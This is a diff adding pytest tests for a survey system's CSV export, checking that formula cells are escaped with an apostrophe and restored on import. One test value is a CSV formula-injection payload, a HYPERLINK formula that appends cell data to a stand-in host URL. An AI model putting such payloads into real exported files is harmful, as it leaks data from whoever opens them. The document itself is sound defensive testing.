@@ -3,6 +3,8 @@ and the round trip of the committed sample generated from the demo data."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 
 import pytest
@@ -335,3 +337,43 @@ async def test_a_submitted_response_is_replaced_only_when_asked(
         )
     )
     assert [r[0] for r in reasons] == [REPLACED_REASON]
+
+
+FORMULAS = {
+    "8-2": '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
+    "8-3": "+81-73-432-4111",
+    "8-4": "-",
+    "8-5": "@SUM(1+1)",
+}
+
+
+async def test_export_defuses_formula_cells_and_the_import_restores_them(
+    connection: AsyncConnection, empty_round: str
+) -> None:
+    # The attack: a municipality's free text `=HYPERLINK(...)` (saveAssessmentAnswers) was
+    # written back as it is by export-assessment, and runs as a formula in the spreadsheet the
+    # prefecture opens the file with. The export prefixes such a cell with ' (OWASP's advice);
+    # the import takes one ' off again, so a round trip keeps the text as it was.
+    keys = list(COMPLETE)
+    header = [webform.TIMESTAMP, "8-1", *keys, *FORMULAS]
+    row = ["2024/04/22 10:15:30", "302015"] + [", ".join(COMPLETE[k]) for k in keys]
+    await import_csv(connection, empty_round, to_csv([header, row + list(FORMULAS.values())]))
+    exported = await export_csv(connection, empty_round)
+    assert exported is not None
+    rows = list(csv.reader(io.StringIO(exported, newline="")))
+    cells = {rows[0][i].split(". ")[0]: rows[1][i] for i in range(len(rows[0]))}
+    for key, value in FORMULAS.items():
+        assert cells[key] == "'" + value
+    await f.create_open_round(connection, "2099-06", opens_on=None, closes_on=None)
+    await import_csv(connection, "2099-06", exported.encode())
+    got = {r[1]: r[3] for r in await stored(connection, "2099-06")}
+    assert {k: got[k] for k in FORMULAS} == FORMULAS
+
+
+@pytest.mark.parametrize(
+    "cell", ["=1+1", "+1", "-", "@A1", "\t=1", "'=1", "''+1", "'", "'a", "a=1", "-5", "1.5", ""]
+)
+def test_formula_escaping_round_trips(cell: str) -> None:
+    escaped = webform.defuse_formula(cell)
+    assert webform.restore_formula(escaped) == cell
+    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r") or escaped == "-5"
